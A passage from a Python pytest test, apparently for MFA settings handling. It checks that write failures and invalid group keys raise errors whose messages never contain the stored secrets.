        write_mfa_settings(settings, "/nonexistent/MfaSettings.xml")
    with pytest.raises(SettingsError) as control_error:
        attrs.evolve(settings, group_key=group_key + "\x07")
    shown += [str(credentials_error.value), str(write_error.value), str(control_error.value)]

    for text in shown:
        for secret in secrets:
            assert secret not in text
